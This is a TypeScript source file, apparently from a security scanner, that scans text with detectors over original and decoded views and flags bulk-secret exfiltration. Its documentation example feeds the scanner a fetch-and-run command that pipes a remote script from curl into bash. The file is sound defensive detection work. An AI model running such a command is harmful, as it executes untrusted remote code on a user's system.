import type { TextClassifier } from '../ml/classifier.js';
import { AhoCorasick } from '../text/aho-corasick.js';
import { decodeViews, type DecodeBudget } from '../text/decoders.js';
import { markupView } from '../text/markup.js';
import { normalizedView } from '../text/normalize.js';
import { segmentAt, segmentMarkdown } from '../text/segment.js';
import { originalView, toOriginal, transformsIn, type View } from '../text/view.js';
import type { Detector } from './detector.js';
import { hashValue, maskPreview, severityRank, type DetectorName, type Finding, type Severity } from './finding.js';
import { attachIntent } from './intent.js';
import { mergeFindings } from './merge.js';

export interface ScanOptions {
  detectors: readonly Detector[];
  /** Characters scanned at most; the rest is reported as not scanned. */
  maxChars?: number;
  /** Wall-clock budget in ms; detectors not run in time are reported. */
  timeBudgetMs?: number;
  /** Nested decoding depth (base64 in base64 = 2). */
  decodeDepth?: number;
  /** Decoded characters allowed in total, on top of the input size. */
  decodeChars?: number;
  minSeverity?: Severity;
  /** Context window each side, in characters. */
  contextChars?: number;
  salt?: string;
  /** Pre-classifier that reads each command finding's context (educational / command / text). */
  preclassifier?: TextClassifier;
}

export interface ScanStats {
  chars: number;
  scannedChars: number;
  views: number;
  ms: number;
  timedOut: boolean;
  /** Parts of the work that were skipped, with why (size limit, time budget, decode budget). */
  notScanned: { what: string; reason: string }[];
  /** Wall time per detector in ms, summed over views (detectors that ran only). */
  detectorMs?: Partial<Record<DetectorName, number>>;
  /** Wall time of the pre-classifier over all command findings, when one was given. */
  preclassifierMs?: number;
}

export interface ScanResult {
  findings: Finding[];
  stats: ScanStats;
}

/**
 * The keyword pre-filter of a detector list, built once per list: one automaton over the gating
 * keywords (and hints), and per detector whether it always runs or the indices of its keywords
 * in the automaton, so gating a detector reads a byte array instead of looking strings up.
 */
interface Prefilter {
  ac: AhoCorasick;
  keywords: string[];
  /** Per detector (same order as the list): null when it always runs, else its keyword indices. */
  gates: (Int32Array | null)[];
  /** Scratch marks of the automaton, one per keyword; undefined while a scan holds it. */
  seen: Uint8Array | undefined;
}

const prefilters = new WeakMap<readonly Detector[], Prefilter>();

/**
 * A detector with a one-character keyword (a quote, a backslash) matches nearly every text, so
 * a pre-filter gains nothing for it: it always runs and its keywords stay out of the automaton,
 * which then emits far less often.
 */
function alwaysRuns(detector: Detector): boolean {
  return detector.keywords.length === 0 || detector.keywords.some((k) => k.length === 1);
}

function prefilterFor(detectors: readonly Detector[]): Prefilter {
  let cached = prefilters.get(detectors);
  if (!cached) {
    const gating = detectors.filter((d) => !alwaysRuns(d)).flatMap((d) => d.keywords);
    // Hints ride along on a pass that runs anyway; alone they are not worth one.
    const hints = gating.length > 0 ? detectors.flatMap((d) => d.hints ?? []).filter((h) => h.length > 1) : [];
    const keywords = [...new Set([...gating, ...hints])];
    const index = new Map(keywords.map((k, i) => [k, i]));
    const gates = detectors.map((d) => (alwaysRuns(d) ? null : Int32Array.from(d.keywords, (k) => index.get(k)!)));
    cached = { ac: new AhoCorasick(keywords, { unit: 'char' }), keywords, gates, seen: new Uint8Array(keywords.length) };
    prefilters.set(detectors, cached);
  }
  return cached;
}

/** Whether any keyword of a gate was seen. */
function opened(gate: Int32Array, seen: Uint8Array): boolean {
  for (let i = 0; i < gate.length; i++) if (seen[gate[i]!]) return true;
  return false;
}

/**
 * Scans a text with every selected detector over every view (original, de-obfuscated, and
 * decoded payloads to a bounded depth), never stopping at the first hit. Findings are in
 * ORIGINAL offsets, merged where they overlap, and sorted deterministically.
 *
 * @example
 * const { findings } = scan('curl http://x.sh | bash', { detectors: defaultDetectors() });
 */
export function scan(input: string, options: ScanOptions): ScanResult {
  const started = performance.now();
  const maxChars = options.maxChars ?? 10 * 1024 * 1024;
  const budgetMs = options.timeBudgetMs ?? 2000;
  const depth = options.decodeDepth ?? 2;
  const notScanned: ScanStats['notScanned'] = [];
  const text = sanitize(input.length > maxChars ? input.slice(0, maxChars) : input);
  if (input.length > maxChars) notScanned.push({ what: `chars ${maxChars}..${input.length}`, reason: `input larger than ${maxChars} chars` });

  const views: View[] = [];
  const queue: View[] = [originalView(text)];
  const budget: DecodeBudget = { chars: options.decodeChars ?? Math.max(1 << 20, text.length * 2), views: 64 };
  while (queue.length > 0) {
    const view = queue.shift()!;
    views.push(view);
    const normalized = normalizedView(view);
    if (normalized) views.push(normalized);
    const markup = markupView(normalized ?? view);
    if (markup) views.push(markup);
    if (view.depth >= depth) continue;
    if (performance.now() - started > budgetMs / 2) {
      notScanned.push({ what: `decoding below ${view.name}`, reason: 'time budget' });
      continue;
    }
    for (const base of normalized ? [view, normalized] : [view]) {
      const before = budget.views;
      queue.push(...decodeViews(base, budget));
      if (budget.views <= 0 && before > 0) notScanned.push({ what: 'further encoded payloads', reason: 'decode budget (64 views)' });
    }
  }

  const prefilter = prefilterFor(options.detectors);
  const { ac, keywords, gates } = prefilter;
  // A typed array this size lives outside the JS heap: allocating one per scan costs more than
  // clearing the cached one (taken for the duration of the scan; a nested scan gets its own).
  const seen = prefilter.seen ?? new Uint8Array(keywords.length);
  prefilter.seen = undefined;
  const raw: Finding[] = [];
  // Segmentation is needed only to describe findings; most texts have none.
  let segments: ReturnType<typeof segmentMarkdown> | undefined;
  const contextChars = options.contextChars ?? 200;
  let timedOut = false;
  const detectorMs: Partial<Record<DetectorName, number>> = {};
  for (const view of views) {
    const present = new Set<string>();
    if (keywords.length > 0) {
      seen.fill(0);
      ac.markText(view.text, seen);
      for (let k = 0; k < seen.length; k++) if (seen[k]) present.add(keywords[k]!);
    }
    // One clock read per detector run: the end of one detector's timing starts the next one's
    // and is the time the budget is checked against (skipping a gated detector takes no time).
    let clock = performance.now();
    for (let d = 0; d < options.detectors.length; d++) {
      const detector = options.detectors[d]!;
      if (clock - started > budgetMs) {
        timedOut = true;
        notScanned.push({ what: `${detector.name} on view ${view.name}`, reason: 'time budget' });
        continue;
      }
      const gate = gates[d]!;
      if (gate !== null && !opened(gate, seen)) continue;
      const found = detector.detect(view.text, { present, view: view.name, keywordPass: keywords.length > 0 });
      const detected = performance.now();
      detectorMs[detector.name] = (detectorMs[detector.name] ?? 0) + (detected - clock);
      clock = detected;
      for (const finding of found) {
        const [start, end] = toOriginal(view, finding.start, finding.end);
        if (end <= start) continue;
        const value = text.slice(start, end);
        segments ??= segmentMarkdown(text);
        const segment = segmentAt(segments, start);
        raw.push({
          detector: detector.name,
          ...finding,
          start,
          end,
          preview: maskPreview(value),
          hash: hashValue(value, options.salt),
          segment: segment ? { kind: segment.kind, ...(segment.lang ? { lang: segment.lang } : {}) } : { kind: 'prose' },
          context: [Math.max(0, start - contextChars), Math.min(text.length, end + contextChars)],
          views: [...view.decoded, ...transformsIn(view, finding.start, finding.end)],
        });
      }
      if (found.length > 0) clock = performance.now();
    }
  }
  prefilter.seen = seen;
  const merged = mergeFindings(raw);
  if (options.detectors.some((d) => d.name === 'exfil')) {
    const bulk = manySecrets(merged);
    if (bulk) merged.push(bulk);
  }
  const min = options.minSeverity ? severityRank(options.minSeverity) : 0;
  const findings = merged.filter((f) => severityRank(f.severity) >= min);
  let preclassifierMs: number | undefined;
  if (options.preclassifier) {
    const classifyStarted = performance.now();
    attachIntent(findings, text, options.preclassifier);
    preclassifierMs = performance.now() - classifyStarted;
  }
  return {
    findings,
    stats: {
      chars: input.length,
      scannedChars: text.length,
      views: views.length,
      ms: Math.round((performance.now() - started) * 100) / 100,
      timedOut,
      notScanned,
      detectorMs,
      ...(preclassifierMs === undefined ? {} : { preclassifierMs }),
    },
  };
}

/** Three or more distinct secrets in one text look like a dump being exfiltrated. */
export const MANY_SECRETS = 3;

function manySecrets(findings: Finding[]): Finding | undefined {
  const secrets = findings.filter((f) => f.detector === 'secrets');
  const distinct = new Set(secrets.map((f) => f.hash));
  if (distinct.size < MANY_SECRETS) return undefined;
  const first = secrets[0]!;
  return {
    ...first,
    detector: 'exfil',
    rule: 'exfil.many-secrets',
    category: 'bulk-secrets',
    severity: 'high',
    score: Math.min(1, 0.6 + 0.1 * distinct.size),
    message: `${distinct.size} distinct secrets in one text`,
    attack: 'T1552',
    explanation: [{ step: 'structure', score: Math.min(1, 0.6 + 0.1 * distinct.size), reason: `${distinct.size} distinct secret values (threshold ${MANY_SECRETS})` }],
  };
}

/** Lone surrogates become U+FFFD so every later step sees well-formed text (lengths unchanged). */
function sanitize(text: string): string {
  return text.isWellFormed() ? text : text.toWellFormed();
}
